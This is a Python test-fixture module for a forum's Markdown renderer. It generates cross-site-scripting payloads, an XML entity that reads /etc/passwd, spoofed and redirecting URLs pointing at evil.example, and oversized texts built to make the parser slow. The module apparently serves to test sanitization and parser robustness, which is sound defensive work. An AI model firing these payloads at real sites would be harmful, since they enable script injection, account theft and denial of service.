"""Hostile texts: shapes of script injection, the places a member can put them, and texts made to cost time."""

from __future__ import annotations

from collections.abc import Iterator

from forum.markup import BODY_LIMIT

TAGS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)<!--",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src=x onerror\n=alert(1)>",
    "<img \x0csrc=x \x0conerror=alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=1em>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg></p><style><g title='</style><img src onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<style><p title='</style><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<template><p title='</template><img src=x onerror=alert(1)>'>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<frameset onload=alert(1)>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<isindex type=image src=x onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<dialog open oncancel=alert(1)>x</dialog>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='java&Tab;script&NewLine;:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=//evil.example>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='https://example.org' onclick=alert(1) ping=//evil.example target=_blank download>x</a>",
    "<a href=x name=body id=location>x</a>",
    "<p id=csrf_token>x</p>",
    "<form id=x><input name=attributes></form>",
    "<p hx-get=/logout hx-trigger=load>x</p>",
    "<p up-follow data-turbo=true x-data='alert(1)' v-html=x data-enhance>x</p>",
    "<button popovertarget=x commandfor=x form=reply is=x-y slot=z part=q>x</button>",
    "<div class='scroll evil' role=dialog tabindex=1 aria-label='x'>x</div>",
    "<p lang=en dir=rtl title=x hidden inert contenteditable draggable=true>x</p>",
    "<div slot=x><slot name=y></slot></div>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "</div></article></main><script>alert(1)</script>",
    "</p></td></tr></table><h1>x</h1>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x",
    "<h1>x</h1><h2>y</h2>",
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\"'><script>alert(1)</script>",
    "\" onmouseover=alert(1) x=\"",
    "' onfocus=alert(1) autofocus '",
    "` onmouseover=alert(1) `",
    "x\u2028<img src=x onerror=alert(1)>",
    "\x02klzzwxh:0000\x03<b>\x02wzxhzdk:0\x03\x02fence:0\x03\x0260\x03script\x0262\x03",
)  # fmt: skip

ADDRESSES = (
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "  javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)",
    "&#x6a;avascript:alert(1)",
    "javascript\\:alert(1)",
    "\\javascript:alert(1)",
    "javascript:alert`1`",
    "javascript://example.org/%0aalert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "jar:javascript:alert(1)!/",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:alert(1)",
    "blob:https://example.org/x",
    "filesystem:https://example.org/x",
    "tel:112",
    "intent://x#Intent;end",
    "//evil.example",
    "///evil.example",
    "/\t/evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "https:\\\\evil.example",
    "https:evil.example",
    "https://evil.example\\@example.org",
    "https://example.org@evil.example",
    "https://exa\u200bmple.org",
    "https://example。org",
    "https://ⓔⓧⓐⓜⓟⓛⓔ.org",
    "https://example.org/\"onmouseover=alert(1)",
    "https://example.org/' onmouseover='alert(1)",
    "https://example.org/<script>alert(1)</script>",
    "https://example.org/`onmouseover=alert(1)`",
    "https://example.org/)*_~`[x](javascript:alert(1))",
    "https://[::1]/",
    "https://[::1%25eth0]/",
    "https://example.org:x/",
    "mailto:a@example.org?body=<script>",
    "mailto:javascript:alert(1)",
    "/x?next=javascript:alert(1)",
    "#\"><script>alert(1)</script>",
    "\x00javascript:alert(1)",
    "\ud800javascript:alert(1)",
    "\u202ejavascript:alert(1)",
)  # fmt: skip

PLACES = (
    "{}",
    "α {} β",
    "- {}",
    "> {}",
    "# {}",
    "*{}*",
    "`{}`",
    "```\n{}\n```",
    "``` {}\nα\n```",
    "| α | {} |\n|---|---|\n| {} | β |",
    "[{}](https://example.org)",
    "[α](https://example.org \"{}\")",
    "[α](/{})",
    "α[^1]\n\n[^1]: {}",
    "α[^{}]\n\n[^{}]: β",
    "[α]: https://example.org '{}'\n\n[α]",
    "- [x] {}",
    "https://example.org/{}",
    "<div>\n{}\n</div>",
)  # fmt: skip

LINK_PLACES = (
    "[α]({})",
    "[α](<{}>)",
    "![α]({})",
    "[α][β]\n\n[β]: {}",
    "[α][β]\n\n[β]: <{}>",
    "<{}>",
    "{}",
    "[{}]({})",
)


def hostile_texts() -> Iterator[str]:
    """Yield every payload in every place."""
    for place in PLACES:
        for payload in (*TAGS, *ADDRESSES):
            yield place.replace("{}", payload)
    for place in LINK_PLACES:
        for address in ADDRESSES:
            yield place.replace("{}", address)


UNITS = (
    "[", "![", "](", "[](", "[a](", "[a](b", "[a][", "[a][b]", "[]", "[[a]", "[a](<b", '[a](b "', "[![a](b)",
    "<b>", "<", "<a@", "<http://", "<!--", "<script>", "</p>", "<?", "]]>", "-->",
    ">", "> ", ">> ", "> a\n", "> a\n\n", ">>>>>>> a\n", "- > ", "> - > - > - > a\n", "> > > > - - - - a\n",
    "* ", "- ", "+ ", "1. ", "- a\n", "- a\n\n", "1. a\n", "- a\n  ", "- a\n\n  b\n\n", "- # a\n  b\n",
    "*", "**", "***", "_", "__", "*a", "*a ", "**a ", "a*", "a**b", "a**a**", "***a ", "*a_ ", "_a*", "*a **b ",
    "***a ___b *c_ __d* ", "a*a", "**a** ", "*a*", "_a_ ", "~", "~~", "~~a", "~~a~~ ",
    "`", "``a`", "`a", "a`b``c```d````e`````f", "`|", "`a`|", "|", "| |", "a|", "a|b\n-|-\n", "|a|\n",
    "|a|b|\n|-|-|\n|1|2|\n\n", "#", "# ", "# a\n", "###### a\n\n", "a\n", "\n", "\n\n", "a\n\n", "  \n", "a  \n",
    "\\", "\\*", "\\`", "&", "&amp;", "&#", "&#x", "&lt;&copy;&#120;", "http://a.b/c ", "https://", "www.a.b ",
    "a@b.gr ", "a@", "a@b.c.d.e.f.g.h.ij ", "[^1]", "[^", "[^a]: b\n", "[^a]: b\n\n", "[a]: b\n", "[x]: <",
    "\t", "\ta\n", "    ", "    a\n", "```\n", "```\na\n```\n", "~~~\n", "> ```\n", "> ```\n\n", "        ```\n",
    "---\n", "- - -\n\n", "-  -", "a\n---\n\n", "a\n===\n", "=", "- [ ] a\n", "(", "((", ")", '"', "'",
    "a", "αβ ", "α", "e\u0301", "\u0301", "\u0323\u0301", "\ufdfa", "\U0001f600", "\ud800", "\x00", "\u202e", "\u2028",
    "http://" + "α" * 60 + "." + "β" * 60 + "/ ", "http://a.b/" + "(" * 900 + ")" * 1000 + " ", "a" * 64 + "@",
)  # fmt: skip


def dear_texts() -> Iterator[str]:
    """Yield texts as long as a post may be, each made to be dear for some part of a Markdown reader."""
    for unit in UNITS:
        yield (unit * (BODY_LIMIT // len(unit) + 1))[:BODY_LIMIT]
    for opening, closing in (
        ("[", "]"), ("*", "*"), ("**a *b ", "* **"), ("_", "_"), ("[", "](a)"), ("![", "](a)"), ("(", ")"),
        ("~~", "~~"), ("`", "`"), ("<", ">"), ("[a](", ")"), ("[a](<", ">)"), ("> ", ""), ("- ", ""),
    ):  # fmt: skip
        for depth in (50, 400, BODY_LIMIT // (len(opening) + len(closing))):
            yield (opening * depth + "a" + closing * depth)[:BODY_LIMIT]
    yield "\n".join("    " * depth + "- a" for depth in range(150))
    yield "\n".join("> " + "    " * depth + "- a" for depth in range(140))
    yield "\n".join(">" * depth + " a" for depth in range(1, 300))
    yield (("\n".join("  " * depth + "1. a" for depth in range(8)) + "\n") * 600)[:BODY_LIMIT]
    yield ("|a" * 5000 + "|\n" + "|-" * 5000 + "|\n" + "|x|\n" * 7000)
    yield "|a" * 900 + "|\n" + "|-" * 900 + "|\n" + "|x|\n" * 1900
    yield "a|b\n-|-\n" + "`|" * 20_000
    yield " ".join("`" * length for length in range(1, 310))
    yield "\n".join(f"[^{n}]: a [^{n + 1}]" for n in range(1500)) + "\n\n[^0]"
    yield "[^a]: a\n\n" + ("[^a] " * 100 + "\n\n") * 90
    yield "\n".join(f"[{n}]: http://a.b/{n}" for n in range(900)) + "\n\n" + " ".join(f"[{n}]" for n in range(590))
    yield "# a" + " " * 40_000 + "x"
    yield "# " * 20_000
    for paragraph in ("*a* " * 290, "**a _b *c __d " * 140, "[a](/b) " * 590, "http://a.b/c " * 390, "a\n" * 990):
        yield ((paragraph + "\n\n") * 100)[:BODY_LIMIT]
